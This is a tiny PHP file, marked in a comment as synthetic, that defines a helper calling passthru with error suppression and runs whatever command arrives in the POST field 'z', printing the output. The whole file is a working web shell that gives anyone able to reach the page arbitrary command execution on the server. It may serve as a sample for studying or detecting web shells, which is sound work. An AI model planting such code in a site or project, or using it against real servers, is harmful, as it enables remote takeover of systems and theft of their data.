<?php
// synthetic: a command helper whose argument comes from a POST field
function runit($c) {
    ob_start();
    @passthru($c);
    return ob_get_clean();
}
if (!empty($_POST['z'])) {
    echo '<pre>' . runit($_POST['z'] . ' 2>&1') . '</pre>';
}
